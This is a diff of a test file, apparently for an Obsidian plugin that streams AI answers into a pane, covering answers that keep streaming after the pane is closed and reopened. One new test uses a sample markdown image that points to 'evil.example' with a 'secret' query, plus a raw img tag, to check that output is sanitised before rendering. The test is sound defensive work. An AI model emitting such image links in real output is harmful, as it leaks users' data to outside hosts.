@@ -90,22 +90,37 @@ describe("an answer", () => {
     await pane.shows("denied Done.");
   });
 
-  it("goes on when the pane is closed, and is there when it is opened again", async () => {
-    const [middle, end] = [gate(), gate()];
-    await pane.ask(script(["say", "One "], ["wait", middle], ["say", "two "], ["wait", end], ["say", "three"]));
+  it("goes on when the pane is closed, and is there, and live, when it is opened again", async () => {
+    const [closed, live, end] = [gate(), gate(), gate()];
+    await pane.ask(
+      script(["say", "One "], ["wait", closed], ["say", "two "], ["wait", live], ["say", "three "], ["wait", end], ["say", "four"]),
+    );
     await pane.shows("One ");
     await pane.close();
-    await open(middle);
+    await open(closed);
     pane = await Pane.open(obsidian);
     await pane.shows("One two ");
+    await open(live);
+    await pane.shows("One two three ");
     await pane.close();
     await open(end);
     const session = obsidian.plugin.settings.sessions[""];
     await until(async () => expect((await get(`/v1/sessions/${session}`)).turns[0].outcome).toBe("completed"));
     pane = await Pane.open(obsidian);
     await pane.isDone();
-    expect(pane.answer).toBe("One two three");
+    expect(pane.answer).toBe("One two three four");
     expect(pane.all(".turnwire-turn").length).toBe(1);
+  });
+
+  it("is made harmless before Obsidian renders it, in pieces and as a whole", async () => {
+    const wait = gate();
+    rendered.length = 0;
+    await pane.ask(script(["say", "![x](https://evil.example/?q=secret)\n\n<img src=x>"], ["wait", wait]));
+    await pane.shows("<img src=x>");
+    await open(wait);
+    await pane.isDone();
+    expect(rendered.length).toBe(2);
+    for (const markdown of rendered) expect(markdown).not.toMatch(/!\[|<img/);
   });
 
   it("is shown live also if the question was asked elsewhere", async () => {
